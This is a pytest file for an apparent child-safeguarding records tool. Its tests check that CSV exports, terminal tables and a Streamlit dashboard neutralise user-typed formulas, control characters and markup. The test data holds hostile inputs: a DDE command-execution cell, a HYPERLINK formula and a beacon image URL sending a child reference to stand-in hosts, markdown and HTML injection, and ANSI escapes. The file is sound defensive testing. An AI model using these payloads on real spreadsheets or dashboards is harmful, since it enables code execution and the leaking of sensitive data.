"""Outputs never execute what users typed: CSV cells that would be formulas are neutralised,
terminal tables escape control characters and never break a row, and the dashboard shows user
text as plain text — no markdown, HTML, links or images, and no request outside the dashboard."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from consumers.store_feed import catch_up
from dashboard import session
from dashboard.plain_text import plain
from domain import clock
from fullpicture import config
from fullpicture.bootstrap import bootstrap
from fullpicture.cli import main
from fullpicture.config import load_settings
from fullpicture.demo_accounts import DEMO_PASSWORD
from fullpicture.output import emit, spreadsheet_safe, terminal_safe
from fullpicture.review_pack import chronology_csv
from fullpicture.tools.demo import register_demo_people
from tests.builders import entry, register_agencies
from tests.people import REVIEWER, practitioner_of, register_people

FORMULAS = [
    '=HYPERLINK("http://elsewhere.invalid/?c=C-0001","Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
]
SCHOOL_PRACTITIONER = "school.practitioner"  # a demo person (fullpicture/tools/demo.py)
BEACON = "http://beacon.invalid/pixel.png?child=C-0001"
HOSTILE_SUMMARY = (
    f'I said ![logo]({BEACON}) and <img src="{BEACON}"> and [click](http://elsewhere.invalid) '
    "**bold** <b>tag</b> :red[alarm] $x^2$\nsecond line"
)


@pytest.mark.parametrize("formula", [*FORMULAS, "\tTAB", "\rCR"])
def test_a_cell_a_spreadsheet_would_run_is_neutralised(formula: str) -> None:
    assert spreadsheet_safe(formula) == "'" + formula


def test_ordinary_text_is_left_as_it_is() -> None:
    assert spreadsheet_safe("Arrived hungry; -2 degrees outside") == (
        "Arrived hungry; -2 degrees outside"
    )


@pytest.fixture
def cli_state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv(config.STATE_DIR, str(tmp_path / "state"))
    assert main(["agency", "register", "school-elm", "--name", "Elm", "--type", "education"]) == 0
    register_people(main, ["school-elm"], ["C-0001"])
    monkeypatch.setenv(config.ACTING_USER, practitioner_of("school-elm"))
    return tmp_path


def record_concern(ref: str, summary: str) -> None:
    assert (
        main(
            [
                "record",
                "concern",
                "--child",
                "C-0001",
                "--agency",
                "school-elm",
                "--entry-ref",
                ref,
                "--occurred-at",
                "2025-03-05",
                f"--summary={summary}",
            ]
        )
        == 0
    )


def test_every_formula_is_neutralised_in_the_cli_csv_export(
    cli_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for n, formula in enumerate(FORMULAS):
        record_concern(f"S-{n}", formula)
    capsys.readouterr()
    assert main(["--as", REVIEWER, "chronology", "C-0001", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(row["summary"] for row in rows) == sorted("'" + f for f in FORMULAS)


def test_every_formula_is_neutralised_in_the_dashboard_csv_export() -> None:
    entries = [{"summary": f, "id": f"school-elm:S-{n}"} for n, f in enumerate(FORMULAS)]
    rows = list(csv.DictReader(io.StringIO(chronology_csv(entries))))
    assert [row["summary"] for row in rows] == ["'" + f for f in FORMULAS]


def test_an_embedded_line_break_cannot_forge_a_table_row(
    cli_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    record_concern("S-1", "Seen by the nurse.\n2025-03-06  school-elm:S-2  concern  forged")
    capsys.readouterr()
    assert main(["--as", REVIEWER, "chronology", "C-0001"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2  # the header and the one entry
    assert "Seen by the nurse.\\n2025-03-06" in lines[1]


def test_control_characters_are_shown_escaped_in_a_table() -> None:
    out = io.StringIO()
    emit([{"summary": "\x1b[2J\x1b[Hall clear\rforged"}], "table", ("summary",), out)
    assert out.getvalue().splitlines()[1] == "\\x1b[2J\\x1b[Hall clear\\rforged"
    assert terminal_safe("plain text") == "plain text"


def test_plain_text_escapes_every_markdown_and_html_character() -> None:
    assert plain("![x](http://a.b) <b> _x_ :red") == (
        "&#33;&#91;x&#93;&#40;http\u2060://a.b&#41; &#60;b&#62; &#95;x&#95; &#58;red"
    )
    assert plain("- one\n2. two\n    code") == "&#45; one  \n2&#46; two  \n&#32;&#32;&#32;&#32;code"
    assert plain("police-north:P-1 lawful_basis") == "police-north:P-1 lawful_basis"
    assert plain("two\nlines") == "two  \nlines"


@pytest.fixture
def hostile_state(tmp_path: Path) -> Path:
    """A child whose voice entry is full of markup, and the demo's people (school.practitioner
    sees the child: their agency recorded the entry)."""
    state = tmp_path / "state"
    wiring = bootstrap(load_settings({config.STATE_DIR: str(state)}))
    register_agencies(wiring.partnership)
    wiring.partnership.record(entry("voice", child_words=HOSTILE_SUMMARY, summary=HOSTILE_SUMMARY))
    catch_up(wiring.partnership, wiring.read_models)
    register_demo_people(wiring)
    wiring.close()
    return state


@pytest.fixture
def app(hostile_state: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[AppTest]:
    monkeypatch.setenv(config.STATE_DIR, str(hostile_state))
    st.cache_resource.clear()
    st.cache_data.clear()
    at = AppTest.from_file(
        str(Path(__file__).resolve().parent.parent / "dashboard" / "app.py"), default_timeout=30
    )
    at.session_state[session.SESSION] = session.SignedIn(
        SCHOOL_PRACTITIONER, session.PASSWORD, clock.now()
    )
    yield at
    st.cache_resource.clear()


def markdown_shown(app: AppTest) -> list[str]:
    """The source of every element Streamlit renders as markdown."""
    parts = [*app.markdown, *app.caption, *app.success, *app.info, *app.error, *app.warning]
    return [str(p.value) for p in parts]


# An image, a tag, a link, or a bare address a renderer would turn into a link.
RENDERED_MARKUP = re.compile(r"!\[|<img|\]\(|https?:")


def open_chronology(app: AppTest, child: str) -> AppTest:
    app.run()
    app.query_params["child"] = child
    app.switch_page("views/chronology.py").run()
    assert not app.exception, [e.value for e in app.exception]
    return app


def test_the_dashboard_passes_user_text_to_markdown_only_escaped(app: AppTest) -> None:
    open_chronology(app, "C-0001")
    assert any("The child's voice" in text for text in markdown_shown(app))
    assert [text for text in markdown_shown(app) if RENDERED_MARKUP.search(text)] == []
    assert any(HOSTILE_SUMMARY in str(t.value) for t in app.text)  # shown as typed, as text


def test_a_child_reference_in_the_address_is_shown_as_text(app: AppTest) -> None:
    open_chronology(app, f"![x]({BEACON})")
    assert [text for text in markdown_shown(app) if RENDERED_MARKUP.search(text)] == []
    assert any("is outside your scope" in text for text in markdown_shown(app))


def test_plain_text_keeps_identities_readable_in_markdown_sources() -> None:
    assert plain("Recorded school-elm:S-1") == "Recorded school-elm:S-1"


def test_in_chromium_user_text_shows_as_text_and_nothing_calls_out(hostile_state: Path) -> None:
    from playwright.sync_api import sync_playwright

    from tests.test_dashboard_browser import (
        CHROMIUM,
        CHROMIUM_FLAGS,
        free_port,
        serving,
        sign_in,
    )

    requested: list[str] = []
    with serving(hostile_state, free_port()) as url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        page = browser.new_page()
        page.on("request", lambda request: requested.append(request.url))
        page.goto(f"{url}/chronology?child=C-0001")
        page.get_by_role("heading", name="Sign in to FullPicture").wait_for(timeout=60_000)
        sign_in(page, SCHOOL_PRACTITIONER, DEMO_PASSWORD)
        page.get_by_text("The child's voice").first.wait_for(timeout=60_000)
        page.wait_for_timeout(2000)
        shown = page.inner_text("body").replace("\u2060", "")  # joiners that stop autolinks
        images = page.locator("img").evaluate_all("images => images.map(i => i.src)")
        links = page.locator("a").evaluate_all("links => links.map(a => a.href)")
        browser.close()
    assert f"![logo]({BEACON})" in shown and "<img src=" in shown and "**bold**" in shown
    outside = [u for u in requested if not u.startswith((url, "data:", "blob:", "ws://127.0.0.1"))]
    assert outside == []
    assert not [src for src in images if "beacon.invalid" in src]
    assert not [href for href in links if "elsewhere.invalid" in href or "beacon" in href]


def test_json_output_keeps_the_text_as_typed(
    cli_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    record_concern("S-1", FORMULAS[0])
    capsys.readouterr()
    assert main(["--as", REVIEWER, "chronology", "C-0001", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["summary"] == FORMULAS[0]
